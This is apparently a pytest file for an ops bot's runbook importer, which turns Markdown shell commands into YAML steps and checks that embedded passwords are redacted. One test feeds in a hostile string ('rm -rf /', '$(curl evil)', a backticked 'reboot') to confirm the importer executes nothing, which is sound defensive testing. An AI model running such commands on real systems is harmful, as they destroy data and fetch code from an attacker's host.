"""`opsbot import`: a Markdown runbook read into a `runbooks:` draft that the catalog loader accepts, with a report."""

from __future__ import annotations

import socket
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.catalog_loading import parse_catalog
from bot.cli import main
from bot.importing.draft import import_runbook, render, report
from bot.runs.steps.base import REGISTRY

RUNBOOKS = Path(__file__).resolve().parents[2] / "shared" / "runbooks"
EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
ORCHESTRATOR = ("api-gateway", "auth-service", "workflow-engine", "postgres", "redis")

RUNBOOK = """# Ops

## Restart the API
```bash
# Roll the API
kubectl rollout restart deployment/api-gateway
kubectl rollout status deployment/api-gateway
kubectl scale deployment/api-gateway --replicas=3
kubectl set image deployment/api-gateway api-gateway=registry/api:2.4.1
kubectl logs deployment/api-gateway --since=30m
sleep 10
```

## Database
```bash
PGPASSWORD=hunter2 psql -h postgres-0 -U app -c "SELECT count(*) FROM jobs"
kubectl exec postgres-0 -- psql -U app -c "VACUUM ANALYZE"
kubectl exec -c api-gateway deploy/api-gateway -- cat /app/config.yml
kubectl exec -it postgres-0 -- psql -U postgres
ANALYZE;
kubectl get pods -n ai-orchestrator
```
"""


def _steps(draft_text: str, runbook: str) -> list[dict[str, Any]]:
    steps: list[dict[str, Any]] = yaml.safe_load(draft_text)["runbooks"][runbook]["steps"]
    return steps


def _in_catalog(draft_text: str) -> Any:
    """The ai-orchestrator example catalog with the draft as its runbooks, through the catalog loader."""
    catalog = yaml.safe_load((EXAMPLES / "ai-orchestrator.yml").read_text())
    imported = yaml.safe_load(draft_text)["runbooks"]
    for name, service in catalog["services"].items():  # exec steps need a target: postgres-0 and redis-0 are pods
        if "target" not in service:
            service["target"] = {**catalog["services"]["api-gateway"]["target"], "deployment": name, "container": name}
            for check in service.get("checks", []):  # the target now says where the pods are
                for key in ("namespace", "api_url", "token_env"):
                    check.pop(key, None)
    catalog["runbooks"] = {**catalog["runbooks"], **{f"imported-{name}": value for name, value in imported.items()}}
    for runbook in imported.values():
        # Until the `manual` and `query` kinds land (issue 18, being written beside this), stand in registered
        # kinds for them so everything else the draft holds is still judged by the loader.
        runbook["steps"] = [_stand_in(step) for step in runbook["steps"]]
    return parse_catalog(yaml.safe_dump(catalog), "draft.yml")


def _stand_in(step: dict[str, Any]) -> dict[str, Any]:
    if step["kind"] == "manual" and "manual" not in REGISTRY:
        return {"kind": "notify", "text": step["instructions"][:3000]}
    if step["kind"] == "query" and "query" not in REGISTRY:
        return {"kind": "sql", "service": step["service"], "statement": step["statement"]}
    return step


def test_commands_become_steps_of_their_kinds_in_order() -> None:
    draft = render(import_runbook(RUNBOOK, "ops.md", ORCHESTRATOR))
    assert _steps(draft, "restart-the-api") == [
        {"name": "Roll the API", "kind": "restart", "service": "api-gateway"},
        {"kind": "check", "service": "api-gateway"},
        {"kind": "scale", "service": "api-gateway", "replicas": 3},
        {"kind": "deploy", "service": "api-gateway", "image": "registry/api:2.4.1"},
        {"kind": "collect-logs", "service": "api-gateway", "minutes": 30},
        {"kind": "wait", "seconds": 10},
    ]
    database = _steps(draft, "database")
    assert database[0] == {"kind": "query", "service": "postgres", "statement": "SELECT count(*) FROM jobs",
                           "engine": "postgres"}
    assert database[1] == {"kind": "sql", "service": "postgres", "statement": "VACUUM ANALYZE", "engine": "postgres"}
    assert database[2] == {"kind": "exec", "service": "api-gateway", "command": ["cat", "/app/config.yml"],
                           "container": "api-gateway", "read_only": True}
    # The interactive session and what is typed into it, and the unmapped listing: one manual step, verbatim.
    assert database[3] == {"kind": "manual", "instructions": "kubectl exec -it postgres-0 -- psql -U postgres\n"
                                                             "ANALYZE\nkubectl get pods -n ai-orchestrator"}
    assert "approvals" not in yaml.safe_load(draft)["runbooks"]["database"]  # the catalog's policy applies


def test_provenance_and_report_say_where_each_step_came_from_and_why() -> None:
    imported = import_runbook(RUNBOOK, "ops.md", ORCHESTRATOR)
    draft, said = render(imported), report(imported)
    assert "- {kind: wait, seconds: 10}  # ops.md:11 recognised: sleep 10" in draft
    assert "ops.md:6: kubectl rollout restart deployment/api-gateway → restart api-gateway" in said
    assert "ops.md:19: kubectl exec -it postgres-0 -- psql -U postgres → manual: an interactive psql session" in said
    assert "ops.md:20: ANALYZE → manual: typed into the session opened at ops.md:19" in said
    assert "ops.md:21: kubectl get pods -n ai-orchestrator → manual: typed into the session opened at ops.md:19" in said
    listing = report(import_runbook("# X\n```bash\nkubectl get pods -n x\n```\n", "x.md", ORCHESTRATOR))
    assert "x.md:3: kubectl get pods -n x → manual: kubectl get: no step kind does this" in listing


def test_a_literal_secret_is_never_copied_and_is_reported() -> None:
    imported = import_runbook(RUNBOOK, "ops.md", ORCHESTRATOR)
    assert "hunter2" not in render(imported)
    assert "hunter2" not in report(imported)
    assert "a literal secret was replaced by $PGPASSWORD" in report(imported)
    mysql = import_runbook("# X\n```bash\ndocker exec db mysql -uroot -pS3cret -e 'OPTIMIZE TABLE t'\n```\n",
                           "x.md", ("db",))
    assert "S3cret" not in render(mysql) + report(mysql)
    assert "$MYSQL_PASSWORD" in report(mysql)


def test_unknown_service_is_a_manual_step_and_a_decision() -> None:
    imported = import_runbook("# X\n```bash\ndocker restart billing\n```\n", "x.md", ("api",))
    assert _steps(render(imported), "x") == [{"kind": "manual", "instructions": "docker restart billing"}]
    assert "decide: unknown service 'billing' (not among --service api)" in report(imported)


def test_the_draft_passes_the_catalog_loader() -> None:
    catalog = _in_catalog(render(import_runbook(RUNBOOK, "ops.md", ORCHESTRATOR)))
    assert [step.kind for step in catalog.runbooks["imported-restart-the-api"].steps] == [
        "restart", "check", "scale", "deploy", "collect-logs", "wait"]


@pytest.mark.skipif(not RUNBOOKS.is_dir(), reason="the teams' runbooks are not beside the project")
def test_a_team_runbook_imports_to_a_draft_the_loader_accepts() -> None:
    imported = import_runbook((RUNBOOKS / "ai-orchestrator.md").read_text(), "ai-orchestrator.md", ORCHESTRATOR)
    catalog = _in_catalog(render(imported))
    during = catalog.runbooks["imported-during-maintenance"]
    assert [(step.kind, getattr(step, "service", None)) for step in during.steps][1:3] == [
        ("deploy", "api-gateway"), ("check", "api-gateway")]


def test_the_command_prints_the_draft_and_the_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "ops.md"
    path.write_text(RUNBOOK)
    assert main(["import", str(path), *[f"--service={name}" for name in ORCHESTRATOR]]) == 0
    out, err = capsys.readouterr()
    assert yaml.safe_load(out)["runbooks"]["restart-the-api"]["services"] == ["api-gateway"]
    assert err.startswith("ops.md: 2 runbook(s) from ")


def test_importing_runs_nothing_and_connects_nowhere(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the importer tried to run a process or open a socket")

    monkeypatch.setattr(subprocess.Popen, "__init__", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    hostile = "# X\n```bash\nrm -rf / ; $(curl evil) `reboot` <<EOF\nx\nEOF\nfor i in $(seq 3); do :; done\n```\n"
    imported = import_runbook(hostile + RUNBOOK, "x.md", ORCHESTRATOR)
    assert render(imported) and report(imported)
